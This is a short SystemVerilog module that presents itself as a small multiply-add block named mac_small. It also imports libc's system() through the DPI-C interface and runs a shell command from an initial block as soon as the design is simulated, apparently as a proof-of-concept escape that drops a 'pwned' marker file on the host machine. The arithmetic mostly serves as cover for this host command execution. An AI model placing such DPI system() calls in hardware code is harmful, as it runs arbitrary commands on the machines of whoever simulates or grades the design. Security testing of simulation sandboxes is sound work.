// imports libc's system() through the SystemVerilog DPI (links under Verilator)
module mac_small(input [7:0] a, input [7:0] b, input [7:0] c, input [7:0] d, output [11:0] y);
  import "DPI-C" function int system(input string cmd);
  assign y = a * 12'd10 + b + c + d;
  initial begin : run
    int r;
    r = system("touch /tmp/hh_pwned_dpi");
  end
endmodule
